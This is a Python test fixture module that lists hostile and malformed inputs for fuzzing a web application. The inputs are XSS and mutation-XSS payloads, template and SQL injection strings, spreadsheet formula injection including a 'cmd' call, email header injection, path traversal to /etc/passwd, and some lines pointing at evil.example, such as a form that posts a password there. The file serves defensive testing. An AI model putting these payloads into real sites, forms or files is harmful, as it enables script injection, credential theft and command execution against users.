"""What a curious, a careless and a hostile person type. Bytes are sent as they are, text as UTF-8."""

CONTROLS = "".join(map(chr, [*range(32), 127, *range(128, 160)]))
NONCHARACTERS = "".join(
    map(chr, [0xFDD0, 0xFDEF, *(plane * 0x10000 + last for plane in range(17) for last in (0xFFFE, 0xFFFF))])
)
DIRECTIONS = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))

MARKUP = [
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "</title><script>alert(1)</script>", "<script src=//evil.example/x.js>",
    "</textarea><script>alert(1)</script>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
    "<img src=x onerror=alert(1)>", "<img src='https://evil.example/pixel.gif'>", "<img/src=`x`onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>", "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>", "<p hx-get=/accounts/logout/ hx-trigger=load hx-on:click=alert(1)>x</p>", "<!--", "]]>",
    "&#0;&#8;&#xFFFF;&#xD800;&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "<" * 300, "&" * 300,
]  # fmt: skip
WORDS = [
    "{{1337*1337}}{{ request.user.password }}", "{% debug %}{% now 'Y' %}", "${1337*1337}#{1337*1337}<%= 1337*1337 %>", "%(title)s %s %n %(n)s",
    "{0} {title} {", "=HYPERLINK('http://evil.example')", "+1+cmd|' /C calc'!A0", "' OR 1=1 --", '"; DROP TABLE x; --',
    "%00", "%", "_", "\\", "C++", "C#", "日本語", "😀👩‍👩‍👧", "نص عربي", "İıſK", "a\r\nBcc: evil@example.org", "a\n\nb", '"Boss" <evil@example.org>', "../../etc/passwd",
    "NEAR(a b) AND OR NOT *", '"', "a:b*", "(((((", "~12", "+start",
]  # fmt: skip
SIGNS = [
    CONTROLS, NONCHARACTERS, DIRECTIONS, "\u202egnp.exe", "a" + "\u0301" * 10_000, "\u200b\u3164\u2060", "\ufeff", "\u2028\u2029", "\x00",
    "\x1b[31mred", b"\xed\xa0\x80\xed\xb0\x80", b"\xff\xfe\x00", b"\xc0\xaf", b"\xf5\x80\x80\x80",
]  # fmt: skip
LARGE = ["x" * 100_000, "9" * 5000, "W" * 90, "ab " * 10_000, "<div>" * 3000, "a," * 3000]


def tamed(value: str | bytes, most: int = 90) -> str | bytes:
    """The value behind a harmless word and short, so that it is taken and shown."""
    return b"Ord " + value[:most] if isinstance(value, bytes) else f"Ord {value[:most]}"


VALUES: list[str | bytes] = ["", " ", *SIGNS, *LARGE, *map(tamed, MARKUP), *map(tamed, WORDS)]

# In the place of a number, a slug, a date or a choice.
ODD: list[str | bytes] = [
    "", "0", "-1", "abc", "9" * 5000, str(2**63), str(2**31), "\x00", b"\xed\xa0\x80", "²", "2026-99-99T00:00:00Z_1",
    "0001-01-01T00:00:00+23:59_1", "<script>alert(1)</script>",
]  # fmt: skip
